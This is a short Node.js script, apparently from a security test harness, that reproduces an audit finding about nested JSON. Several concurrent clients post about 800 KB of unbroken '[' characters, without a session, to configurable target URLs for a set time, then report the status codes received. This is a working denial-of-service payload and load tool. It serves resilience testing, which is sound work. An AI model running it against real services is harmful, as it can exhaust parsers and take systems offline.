// The attacker of the nested-JSON scenario (issue 17, finding 2), in a process of its own so its
// work never delays the probes that measure the service: CLIENTS loops, each posting ~800 KB of
// `[[[…` without a session to one of TARGETS (comma-separated URLs, taken in turn by the clients),
// one request after another, for SECONDS. Prints what the service answered as one JSON line.
import http from 'node:http';

const targets = process.env.TARGETS.split(',').map((target) => new URL(target));
const clients = Number(process.env.CLIENTS ?? 4);
const deadline = Date.now() + Number(process.env.SECONDS ?? 10) * 1000;
const body = Buffer.from('['.repeat(800 * 1024));
const byStatus = {};
let errors = 0;

function post(url) {
  return new Promise((resolve) => {
    const req = http.request(
      url,
      {
        method: 'POST',
        agent: false,
        headers: {
          'content-type': 'application/json',
          'content-length': body.length,
          packagename: 'com.puente.loans',
        },
      },
      (res) => {
        res.resume();
        res.on('end', () => {
          byStatus[res.statusCode] = (byStatus[res.statusCode] ?? 0) + 1;
          resolve();
        });
      },
    );
    // A service that refuses before reading may close the socket while the body is still going out.
    req.on('error', () => {
      errors++;
      resolve();
    });
    req.end(body);
  });
}

await Promise.all(
  Array.from({ length: clients }, async (_, i) => {
    while (Date.now() < deadline) await post(targets[i % targets.length]);
  }),
);
console.log(JSON.stringify({ byStatus, errors }));
